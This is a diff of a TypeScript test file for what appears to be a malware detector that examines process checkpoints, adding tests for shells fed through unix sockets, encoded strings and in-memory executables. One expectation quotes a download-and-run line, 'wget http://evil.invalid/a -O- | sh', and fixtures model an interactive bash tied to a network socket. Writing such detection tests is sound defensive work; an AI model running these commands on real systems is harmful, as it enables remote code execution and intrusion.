@@ -1,6 +1,11 @@
 import { Finding, Process, Severity } from '@cubemig/plugin-cubemig-common';
 import { collectFacts, detectors, examine, Facts } from '..';
-import { fixtureNames, openChanged, openFixture } from '../../__testUtils__';
+import {
+  fixtureNames,
+  makeImage,
+  openChanged,
+  openFixture,
+} from '../../__testUtils__';
 import { Checkpoint } from '../../report';
 import { SecretMask } from '../../secrets';
 import { findFindings } from '../findFindings';
@@ -153,6 +158,44 @@ describe('shell-with-socket', () => {
     ]);
   });
 
+  it('follows unix sockets', async () => {
+    const facts = await factsOf('d-python-tcp');
+    facts.report.processes.push({
+      ...facts.report.processes[0],
+      pid: 9,
+      argv: ['bash', '-i'],
+    });
+    const end = (
+      pid: number,
+      fd: number,
+      inode: number,
+      peer_inode: number,
+    ) => {
+      const family = 'UNIX';
+      facts.report.connections.push({
+        pid,
+        fd,
+        family,
+        protocol: 'STREAM',
+        state: 'ESTABLISHED',
+        inode,
+        peer_inode,
+      });
+      facts.report.descriptors.push({
+        pid,
+        fd,
+        type: 'UNIXSK',
+        target: `socket:${inode}`,
+        deleted: false,
+      });
+    };
+    end(9, 0, 70, 71);
+    end(1, 8, 71, 70);
+    expect(tell(facts, 'shell-with-socket')).toEqual([
+      'low: the input of python3 (9) comes from 10.78.1.16:8000 -> 10.77.0.1:47236 ESTABLISHED through python3 (1)',
+    ]);
+  });
+
   it('lets a server read what a command prints', async () => {
     const facts = await factsOf('d-python-tcp');
     facts.report.processes.push({
@@ -196,6 +239,12 @@ describe('encoded-command', () => {
       /decodes to: wget http:\/\/evil\.invalid\/a -O- \| sh$/,
     );
     expect(severityOf(find(facts, 'download-and-run'))).toEqual(['high']);
+  });
+
+  it('does not show an encoded text that is no command', async () => {
+    const facts = await withCommand('app', encode('admin:very secret words'));
+    const [told] = tell(facts, 'encoded-command');
+    expect(told).toMatch(/^low: .* decodes to a text of 23 characters$/);
   });
 
   it.each([
@@ -278,6 +327,33 @@ describe('deleted-executable', () => {
   it('sees a program that only exists in memory', async () => {
     const facts = await withProcess({ exe: '/memfd:x', exe_deleted: true });
     expect(severityOf(find(facts, 'deleted-executable'))).toEqual(['critical']);
+  });
+});
+
+describe('a real checkpoint of a program in memory', () => {
+  it('tells its name', async () => {
+    const original = await openFixture('a-counter');
+    const { exeFileId } = original.images.mm(1)!;
+    const { findings } = await examine(
+      new Checkpoint(
+        await openChanged('a-counter', {
+          'checkpoint/files.img': makeImage(0x56303138, [
+            [
+              'File',
+              { type: 18, id: exeFileId, memfd: { id: exeFileId, inodeId: 5 } },
+            ],
+          ]),
+          'checkpoint/memfd.img': makeImage(0x48453499, [
+            ['MemfdInode', { name: Buffer.from('payload'), inodeId: 5 }],
+          ]),
+        }),
+      ),
+    );
+    expect(findings[0]).toMatchObject({
+      id: 'deleted-executable',
+      severity: 'critical',
+      evidence: [{ pid: 1, file: 'memfd:payload' }, { pid: 1544 }],
+    });
   });
 });
 
